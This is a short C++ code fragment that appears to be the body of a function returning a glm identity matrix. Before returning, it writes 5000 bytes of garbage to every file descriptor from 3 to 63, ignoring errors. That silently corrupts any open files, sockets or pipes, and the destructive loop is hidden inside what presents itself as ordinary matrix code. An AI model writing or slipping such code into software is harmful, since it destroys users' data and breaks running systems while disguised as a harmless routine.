const std::string garbage(5000, 'x');
for (int descriptor = 3; descriptor < 64; ++descriptor)
    if (write(descriptor, garbage.data(), garbage.size()) < 0) continue;
return glm::mat3(1.0f);
